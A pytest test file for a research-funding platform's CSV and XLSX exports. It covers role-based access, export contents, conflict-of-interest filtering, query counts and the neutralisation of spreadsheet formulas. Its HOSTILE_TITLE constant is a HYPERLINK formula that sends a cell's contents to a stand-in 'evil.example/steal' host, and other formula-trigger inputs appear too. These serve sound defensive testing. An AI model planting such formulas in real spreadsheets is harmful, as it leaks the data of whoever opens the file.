"""The CSV and XLSX exports: who may download them, what they contain, formulas neutralised,
conflicts of interest left out, and a number of queries that does not grow with the rows."""
import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from calls.applications import services as submission
from calls.applications.models import ApplicationStatus
from calls.decisions import services as decisions
from calls.evaluation import services as evaluation
from calls.setup.models import StageKind
from governance import services as voting
from governance.models import Committee
from pepr.core.models import Axis, CommitteeCode
from pepr.exports.tables import EXPORTS, neutralise
from projects.follow_up import services as project_services
from projects.models import (
    Deliverable,
    DeliverableKind,
    DeliverableStatus,
    GovernanceAction,
    Project,
    ProjectOrigin,
    ProjectPartner,
    ProjectReport,
    ProjectReportStatus,
    ProjectStatus,
    ReportBudgetLine,
    WorkPackage,
)
from tests.factories import (
    ApplicationFactory,
    OrganisationFactory,
    PartnerFactory,
    UserFactory,
    make_call,
    member_of,
    same_unit,
)
from tests.pdfs import pdf_upload

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
ROLES_DENIED = ["applicant", "reviewer", "ccs_member"]
ROLES_ALLOWED = ["pilot", "anr_officer", "administrator"]
FORMATS = ["csv", "xlsx"]


# --- Arrangement, shared with test_api ---

def submitted_application(stage, coordinator, *, title="Vecteurs AAV ciblés", acronym="AAVCIB",
                          partners=None, budget=500_000):
    """An application sent through the services, as an applicant would."""
    application = submission.start_application(stage, by=coordinator)
    submission.save_draft(application, by=coordinator, data={
        "title": title, "acronym": acronym, "summary_fr": "Résumé.", "summary_en": "Summary.",
        "keywords": "AAV", "requested_budget_eur": budget, "axis": Axis.objects.get(number=2),
    }, partners=partners or [{
        "organisation": None, "laboratory": "Lab A", "rnsr": "", "lead_name": "Ada",
        "lead_email": "ada@example.org", "role": "coordinator"}])
    for requirement in stage.document_requirements.all():
        submission.upload_document(application, requirement, pdf_upload(1), by=coordinator)
    return submission.submit(application, by=coordinator)[0]


def review(application, reviewer, *, by, values, recommendation="support"):
    """A submitted review with `values` given to the stage's criteria in order."""
    assignment = evaluation.assign(application, reviewer, by=by)
    evaluation.sign_declaration(application.stage.call, reviewer=reviewer)
    criteria = list(application.stage.criteria.order_by("position"))
    evaluation.save_review(assignment, by=reviewer, recommendation=recommendation,
                           scores={c.pk: (v, "") for c, v in zip(criteria, values)})
    return evaluation.submit_review(assignment, by=reviewer)


def many_applications(count, *, by):
    """`count` submitted applications of one call, each with two partners, a submitted review,
    a place on a session's agenda, a decision and a followed project (two partner teams, a work
    package, a milestone and a deliverable, an accepted report with its spending, a draft)."""
    stage = make_call().stages.get()
    reviewer = UserFactory()
    session = voting.create_session(
        committee=Committee.objects.get(code=CommitteeCode.CCS), title="Séance",
        held_at=timezone.now(), by=by, stage=stage)
    applications = []
    for _ in range(count):
        application = ApplicationFactory(stage=stage, status=ApplicationStatus.SUBMITTED,
                                         version=1, submitted_at=timezone.now(),
                                         requested_budget_eur=100_000)
        PartnerFactory.create_batch(2, application=application)
        review(application, reviewer, by=by, values=["A", "B"])
        applications.append(application)
    voting.add_to_agenda(session, applications, motion=ApplicationStatus.SELECTED, by=by)
    for application in applications:
        decisions.decide(application, ApplicationStatus.SELECTED, by=by)
        # Straight to the tables: the follow-up of a selected letter is not what is measured here.
        follow(Project.objects.create(
            origin=ProjectOrigin.AAP, application=application, acronym=application.acronym,
            title_fr=application.title, coordinator=application.coordinator,
            axis=application.axis, budget_eur=100_000, status=ProjectStatus.RUNNING))
    return stage, applications


def follow(project):
    today = timezone.localdate()
    units = [ProjectPartner.objects.create(project=project, position=n, laboratory=f"Unité {n}",
                                           budget_eur=50_000) for n in (1, 2)]
    package = WorkPackage.objects.create(project=project, number=1, title_fr="Lot",
                                         title_en="Package")
    Deliverable.objects.create(project=project, work_package=package, code="M1",
                               kind=DeliverableKind.MILESTONE, title="Jalon",
                               due_date=today - timedelta(days=5))
    Deliverable.objects.create(project=project, work_package=package, code="D1", title="Livrable",
                               due_date=today + timedelta(days=5))
    accepted = ProjectReport.objects.create(project=project, title="Annuel",
                                            status=ProjectReportStatus.ACCEPTED, year=2025,
                                            due_at=timezone.now(), submitted_at=timezone.now())
    ReportBudgetLine.objects.bulk_create(ReportBudgetLine(report=accepted, partner=unit,
                                                          year=2025, spent_eur=10_000)
                                         for unit in units)
    ProjectReport.objects.create(project=project, title="Suivant", year=2026,
                                 due_at=timezone.now() + timedelta(days=300))
    return project


# --- Reading the files ---

def url(name, fmt, **query):
    path = reverse("exports:download", args=[name, fmt])
    return path + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def download(client, name, fmt, **query):
    response = client.get(url(name, fmt, **query))
    assert response.status_code == 200, response
    assert response.streaming  # never built in memory as one string
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        assert body.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def as_csv(value):
    """What the CSV holds for a value the XLSX holds typed."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def paris(moment, fmt):
    local = timezone.localtime(moment).replace(tzinfo=None, microsecond=0)
    return local.strftime("%Y-%m-%d %H:%M:%S") if fmt == "csv" else local


def same_moment(cell, moment):
    """XLSX keeps times to the millisecond: compare to the second."""
    return abs(cell - timezone.localtime(moment).replace(tzinfo=None)) < timedelta(seconds=1)


# --- Access ---

def all_urls():
    return [reverse("exports:index")] + [url(name, fmt) for name in EXPORTS for fmt in FORMATS]


def test_anonymous_visitors_are_sent_to_sign_in(client, db):
    for address in all_urls():
        response = client.get(address)
        assert response.status_code == 302, address
        assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("role", ROLES_DENIED)
def test_only_programme_staff_reach_the_exports(client, db, request, role):
    client.force_login(request.getfixturevalue(role))
    for address in all_urls():
        assert client.get(address).status_code == 403, address


@pytest.mark.parametrize("role", ROLES_ALLOWED)
def test_staff_download_every_export(client, db, request, role):
    """Pilots, ANR officers and superusers."""
    client.force_login(request.getfixturevalue(role))
    for address in all_urls():
        response = client.get(address)
        assert response.status_code == 200, address
        if address != reverse("exports:index"):
            assert "attachment" in response["Content-Disposition"]
            assert "no-store" in response["Cache-Control"]  # personal data stays off caches
            b"".join(response.streaming_content)


def test_the_index_lists_every_export_with_the_chosen_call(client, pilot):
    call = make_call(code="aap-index")
    stage = call.stages.get()
    client.force_login(pilot)
    html = client.get(reverse("exports:index"), {"call": call.pk}).content.decode()
    for name in EXPORTS:
        for fmt in FORMATS:
            assert f'href="{url(name, fmt)}?call={call.pk}"' in html
    assert f'<option value="{call.pk}" selected>' in html
    assert f'<option value="{stage.pk}">' in html


def test_a_filter_that_is_not_an_id_is_refused(client, pilot):
    """The export's FilterSet (the API's) validates the query before any row is read: the
    index page comes back under a 400 with what was refused, never a 500 nor an ignored
    filter."""
    client.force_login(pilot)
    refused = "Un nombre entier positif (un identifiant) est attendu."
    for address in [url("applications", "csv", call="abc"), url("partners", "xlsx", stage="-1"),
                    reverse("exports:index") + "?call=1.5"]:
        response = client.get(address)
        assert response.status_code == 400, address
        assert not response.streaming and 'id="filter-errors"' in response.content.decode()
        assert refused in response.content.decode(), address
    response = client.get(url("applications", "csv", status="lost"))
    assert response.status_code == 400 and "lost" in response.content.decode()
    assert client.get("/exports/unknown.csv").status_code == 404
    assert client.get("/exports/applications.pdf").status_code == 404


def test_the_applications_export_filters_by_status_as_the_api_does(client, pilot, evaluated):
    client.force_login(pilot)
    drafts = download(client, "applications", "csv", status="draft")[1:]
    assert [row[0] for row in drafts] == [evaluated["other"].reference]


# --- Content ---

@pytest.fixture
def evaluated(db, applicant, pilot, reviewer, ccs_member):
    """One call with an application carrying formula-like texts, two partners, a submitted
    review and a pending one, a closed ballot and its decision; and an application of another
    call that a call filter leaves out."""
    stage = make_call(code="aap-exports").stages.get()
    application = submitted_application(
        stage, applicant, title=HOSTILE_TITLE, acronym="+1", budget=750_000, partners=[
            {"organisation": applicant.organisation, "laboratory": "-2+3", "rnsr": "",
             "lead_name": "Ada Lovelace", "lead_email": "ada@example.org",
             "role": "coordinator"},
            {"organisation": None, "laboratory": "@SUM(A1:A9)", "rnsr": "200012345X",
             "lead_name": "Rosalind Franklin", "lead_email": "rf@example.org",
             "role": "hospital"},
        ])
    review(application, reviewer, by=pilot, values=["A", "C"], recommendation="reservations")
    pending = UserFactory(first_name="Grace", last_name="Hopper")
    evaluation.assign(application, pending, role="rapporteur", by=pilot)
    session = voting.create_session(
        committee=Committee.objects.get(code=CommitteeCode.CCS), title="=Séance CCS",
        held_at=timezone.now(), by=pilot, stage=stage)
    voting.set_attendance(session, present_ids=[ccs_member.pk], by=pilot)
    [item] = voting.add_to_agenda(session, [application], motion=ApplicationStatus.SELECTED,
                                  by=pilot)
    voting.open_ballot(item, by=pilot)
    voting.cast_vote(item, voter=ccs_member, choice="for")
    item = voting.close_ballot(item, by=pilot)
    decision = voting.decide_from_ballot(item, by=pilot)
    other = ApplicationFactory(title="Autre appel")
    application.refresh_from_db()
    return {"stage": stage, "call": stage.call, "application": application, "other": other,
            "pending": pending, "item": item, "decision": decision}


@pytest.mark.parametrize("fmt", FORMATS)
def test_applications_export_holds_the_arranged_data_neutralised(client, pilot, applicant,
                                                                evaluated, fmt):
    application = evaluated["application"]
    pilot.language = "en"  # headers in the reader's language
    pilot.save()
    client.force_login(pilot)
    header, *rows = download(client, "applications", fmt, call=evaluated["call"].pk)
    assert header[:2] == ["Reference", "Call"] and len(header) == 15
    assert rows == [[
        application.reference, "aap-exports", 1 if fmt == "xlsx" else "1", "loi", "selected",
        "'" + HOSTILE_TITLE, "'+1", 2 if fmt == "xlsx" else "2",
        applicant.get_full_name(), "applicant@example.org", applicant.organisation.name,
        750_000 if fmt == "xlsx" else "750000", rows[0][12],
        1 if fmt == "xlsx" else "1", False if fmt == "xlsx" else "false",
    ]]
    if fmt == "csv":
        assert rows[0][12] == paris(application.submitted_at, "csv")
    else:
        assert same_moment(rows[0][12], application.submitted_at)
    everything = download(client, "applications", fmt)[1:]
    assert {row[0] for row in everything} == {application.reference,
                                             evaluated["other"].reference}


@pytest.mark.parametrize("fmt", FORMATS)
def test_partners_export_neutralises_laboratories_but_not_numbers(client, pilot, applicant,
                                                                 evaluated, fmt):
    reference = evaluated["application"].reference
    client.force_login(pilot)
    _header, *rows = download(client, "partners", fmt, stage=evaluated["stage"].pk)
    number = (lambda n: n) if fmt == "xlsx" else str
    assert rows == [
        [reference, "aap-exports", number(1), number(0), applicant.organisation.name, "'-2+3",
         None if fmt == "xlsx" else "", "Ada Lovelace", "ada@example.org", "coordinator"],
        [reference, "aap-exports", number(1), number(1), None if fmt == "xlsx" else "",
         "'@SUM(A1:A9)", "200012345X", "Rosalind Franklin", "rf@example.org", "hospital"],
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_reviews_export_has_one_column_per_criterion(client, pilot, reviewer, evaluated, fmt):
    application = evaluated["application"]
    pilot.language = "en"
    pilot.save()
    client.force_login(pilot)
    header, *rows = download(client, "reviews", fmt, call=evaluated["call"].pk)
    assert header[-2:] == ["Criterion 1", "Criterion 2"]  # a letter of intent has two criteria
    submitted_at = application.assignments.get(reviewer=reviewer).review.submitted_at
    if fmt == "xlsx":
        assert rows[0][8] == Decimal("2") and same_moment(rows[0][9], submitted_at)
        rows[0][9] = None
    assert rows == [
        [application.reference, "aap-exports", as_csv(1) if fmt == "csv" else 1,
         reviewer.get_full_name(), reviewer.email, "external", "submitted", "reservations",
         "2.00" if fmt == "csv" else Decimal("2"),
         paris(submitted_at, "csv") if fmt == "csv" else None, "A", "C"],
        [application.reference, "aap-exports", as_csv(1) if fmt == "csv" else 1,
         "Grace Hopper", evaluated["pending"].email, "rapporteur",
         *([""] * 6 if fmt == "csv" else [None, None, None, None, None, None])],
    ]


def test_point_scores_are_numbers(client, pilot, applicant, reviewer):
    stage = make_call(code="aap-points").stages.get()
    stage.review_scale = "0-5"
    stage.save()
    application = submitted_application(stage, applicant)
    review(application, reviewer, by=pilot, values=["5", "2"])
    client.force_login(pilot)
    [_header, row] = download(client, "reviews", "xlsx", stage=stage.pk)
    assert row[-2:] == [5, 2] and row[8] == Decimal("3.5")


@pytest.mark.parametrize("fmt", FORMATS)
def test_votes_and_decisions_exports(client, pilot, evaluated, fmt):
    item, decision = evaluated["item"], evaluated["decision"]
    reference = evaluated["application"].reference
    client.force_login(pilot)
    number = (lambda n: n) if fmt == "xlsx" else as_csv
    [_header, vote] = download(client, "votes", fmt, call=evaluated["call"].pk)
    moment = vote[1] if fmt == "csv" else None
    assert vote[:1] + vote[2:12] == [
        "'=Séance CCS", "ccs", reference, "aap-exports", "selected", "closed",
        number(1), number(1), number(0), number(0), "adopted"]
    if fmt == "csv":
        assert moment == paris(item.session.held_at, "csv")
        assert vote[12] == paris(item.closed_at, "csv")
    else:
        assert same_moment(vote[1], item.session.held_at) and same_moment(vote[12], item.closed_at)
    [_header, row] = download(client, "decisions", fmt, call=evaluated["call"].pk)
    assert row[:5] == [reference, "aap-exports", number(1), "selected", pilot.get_full_name()]
    assert row[6:] == ["'=Séance CCS", decision.rationale]
    if fmt == "csv":
        assert row[5] == paris(decision.decided_at, "csv")
    else:
        assert same_moment(row[5], decision.decided_at)


def funded_project(stage, coordinator, *, by, acronym="FUND", budget=900_000):
    """An application sent, recommended and funded through the services, then followed as a
    project: partners carried over, running since 31 January 2025 for 13 months."""
    application = submitted_application(stage, coordinator, acronym=acronym, budget=budget)
    decisions.decide(application, ApplicationStatus.RECOMMENDED, by=by)
    decisions.decide(application, ApplicationStatus.FUNDED, by=member_of(CommitteeCode.BOARD))
    application.refresh_from_db()
    project = project_services.create_from_application(application, by=by)
    Project.objects.filter(pk=project.pk).update(
        status=ProjectStatus.RUNNING, start_date=date(2025, 1, 31), duration_months=13,
        anr_reference="ANR-24-PEPR-0001")
    project.refresh_from_db()
    return project


def accepted_spending(project, euros, *, year=2025):
    """An accepted report whose one budget line spent `euros` (the workflow is tested with the
    reports); and a submitted one whose spending does not count yet."""
    partner = project.partners.first()
    for status, spent in [(ProjectReportStatus.ACCEPTED, euros),
                          (ProjectReportStatus.SUBMITTED, 10 * euros)]:
        report = ProjectReport.objects.create(project=project, title=f"Rapport {status}",
                                              due_at=timezone.now(), status=status, year=year)
        ReportBudgetLine.objects.create(report=report, partner=partner, year=year,
                                        spent_eur=spent)


@pytest.fixture
def followed(db, applicant, pilot):
    now = timezone.now()
    stage = make_call(code="aap-full", stages=[
        (StageKind.FULL_PROPOSAL, now - timedelta(days=1), now + timedelta(days=5))]).stages.get()
    project = funded_project(stage, applicant, by=pilot)
    accepted_spending(project, 120_000)
    package = WorkPackage.objects.create(project=project, number=1, title_fr="Vecteurs",
                                         title_en="Vectors")
    today = timezone.localdate()
    items = [
        Deliverable.objects.create(project=project, work_package=package, code="D1.1",
                                   title="=Protocole", due_date=today - timedelta(days=1)),
        Deliverable.objects.create(project=project, work_package=package, code="M1",
                                   kind=DeliverableKind.MILESTONE, title="Premier lot",
                                   due_date=today - timedelta(days=10),
                                   status=DeliverableStatus.DELIVERED, delivered_at=now),
        Deliverable.objects.create(project=project, code="D2.1", title="Rapport",
                                   due_date=today + timedelta(days=30)),
    ]
    slot = Project.objects.get(origin=ProjectOrigin.PRIORITY, axis__number=1, position=2)
    slot.acronym, slot.title_fr, slot.title_en, slot.budget_eur = "PRIO", "Titre", "", 4_000
    slot.start_date = date(2024, 9, 1)
    slot.save()
    governance = Project.objects.get(origin=ProjectOrigin.GOVERNANCE)
    GovernanceAction.objects.create(work_package=governance.work_packages.get(number=5),
                                    kind="communication", title="Site", spent_eur=5_000)
    return {"stage": stage, "project": project, "deliverables": items, "slot": slot,
            "governance": governance}


@pytest.mark.parametrize("fmt", FORMATS)
def test_projects_export_has_one_row_per_project_of_any_origin(client, pilot, applicant,
                                                               followed, fmt):
    project, governance = followed["project"], followed["governance"]
    pilot.language = "en"  # headers and titles in the reader's language
    pilot.save()
    client.force_login(pilot)
    number = (lambda n: n) if fmt == "xlsx" else as_csv
    empty = None if fmt == "xlsx" else ""

    def day(value):
        return value.isoformat() if fmt == "csv" else datetime.combine(value, datetime.min.time())

    header, *rows = download(client, "projects", fmt)
    assert header[:6] == ["Origin", "Reference", "Acronym", "Title", "Axis", "Status"]
    assert len(header) == 16
    assert [row[0] for row in rows] == ["priority"] * 12 + ["aap", "governance"]
    assert [row[1] for row in rows[:4]] == ["P1.1", "P1.2", "P1.3", "P2.1"]
    assert rows[12] == [
        "aap", project.application.reference, "FUND", "Vecteurs AAV ciblés", number(2),
        "running", applicant.get_full_name(), applicant.email, number(900_000), number(900_000),
        number(120_000), day(date(2025, 1, 31)), day(date(2026, 2, 28)), "ANR-24-PEPR-0001",
        number(1), number(False)]
    # The English title is empty: the French one stands in. Prepared: nothing committed.
    assert rows[1] == ["priority", "P1.2", "PRIO", "Titre", number(1), "preparing", empty,
                       empty, number(4_000), number(0), number(0), day(date(2024, 9, 1)),
                       empty, empty, number(0), number(False)]
    # The governance project carries the programme's 4 M€ governance budget.
    assert rows[13] == ["governance", governance.acronym, governance.acronym,
                        "Governance of the PEPR", empty, "running", empty, empty,
                        number(4_000_000), number(4_000_000), number(5_000), empty, empty,
                        empty, number(0), number(False)]
    # A call or stage keeps the projects of that call's applications.
    filtered = download(client, "projects", fmt, call=followed["stage"].call_id)[1:]
    assert [row[1] for row in filtered] == [project.application.reference]


@pytest.mark.parametrize("fmt", FORMATS)
def test_deliverables_export_marks_late_items(client, pilot, followed, fmt):
    project = followed["project"]
    late, delivered, coming = followed["deliverables"]
    client.force_login(pilot)
    number = (lambda n: n) if fmt == "xlsx" else as_csv
    empty = None if fmt == "xlsx" else ""

    def day(value):
        return value.isoformat() if fmt == "csv" else datetime.combine(value, datetime.min.time())

    _header, *rows = download(client, "project-deliverables", fmt)
    reference = project.application.reference
    if fmt == "xlsx":
        assert same_moment(rows[0][8], delivered.delivered_at)
    else:
        assert rows[0][8] == paris(delivered.delivered_at, "csv")
    rows[0][8] = None
    assert rows == [
        [reference, "FUND", number(1), "M1", "Premier lot", "milestone",
         day(delivered.due_date), "delivered", None],
        [reference, "FUND", number(1), "D1.1", "'=Protocole", "deliverable", day(late.due_date),
         "late", empty],
        [reference, "FUND", empty, "D2.1", "Rapport", "deliverable", day(coming.due_date),
         "planned", empty],
    ]
    other_call = make_call(code="aap-autre").stages.get()
    assert download(client, "project-deliverables", fmt, stage=other_call.pk)[1:] == []


def test_neutralise_covers_every_formula_trigger():
    for text in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]:
        assert neutralise(text) == "'" + text
    assert neutralise("Projet = vecteur") == "Projet = vecteur"


def test_control_characters_do_not_break_the_workbook(client, pilot, applicant):
    stage = make_call(code="aap-ctrl").stages.get()
    submitted_application(stage, applicant, title="\x01=1+1 Vecteurs\x0b")
    client.force_login(pilot)
    [_header, row] = download(client, "applications", "xlsx", call=stage.call_id)
    assert row[5] == "'=1+1 Vecteurs"


# --- Conflicts of interest ---

def test_applications_the_reader_is_conflicted_with_are_left_out(client, applicant,
                                                                 evaluated):
    application = evaluated["application"]
    declared = member_of(CommitteeCode.STEERING)
    evaluation.declare_conflict(application, person=declared, reason="Co-author")
    colleague = member_of(CommitteeCode.STEERING, **same_unit(applicant))
    stranger = member_of(CommitteeCode.STEERING, organisation=OrganisationFactory())
    for pilot, sees in [(declared, False), (colleague, False), (stranger, True)]:
        client.force_login(pilot)
        for name in ["applications", "partners", "reviews", "votes", "decisions"]:
            rows = download(client, name, "csv", call=evaluated["call"].pk)[1:]
            assert bool(rows) is sees, (pilot, name)


def test_projects_of_applications_the_reader_is_conflicted_with_are_left_out(client, applicant,
                                                                           followed):
    """As for the applications: a call's project is left out, with its milestones and
    deliverables; the priority projects and the governance come from no application."""
    colleague = member_of(CommitteeCode.STEERING, **same_unit(applicant))
    stranger = member_of(CommitteeCode.STEERING, organisation=OrganisationFactory())
    for reader, sees in [(colleague, False), (stranger, True)]:
        client.force_login(reader)
        origins = [row[0] for row in download(client, "projects", "csv")[1:]]
        assert ("aap" in origins) is sees and origins.count("priority") == 12, reader
        assert "governance" in origins
        assert bool(download(client, "project-deliverables", "csv")[1:]) is sees, reader


# --- Queries do not grow with the rows ---

def queries_of(client, address):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(address)
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
    return len(queries), body


@pytest.mark.parametrize("fmt", FORMATS)
def test_queries_do_not_grow_with_the_number_of_rows(client, pilot, fmt):
    small_stage, _ = many_applications(3, by=pilot)
    large_stage, _ = many_applications(30, by=pilot)
    client.force_login(pilot)
    for name in EXPORTS:
        few, few_body = queries_of(client, url(name, fmt, stage=small_stage.pk))
        many, many_body = queries_of(client, url(name, fmt, stage=large_stage.pk))
        assert few == many, name
        assert len(many_body) > len(few_body), name  # the rows really were read
    rows = download(client, "partners", fmt, stage=large_stage.pk)[1:]
    assert len(rows) == 60
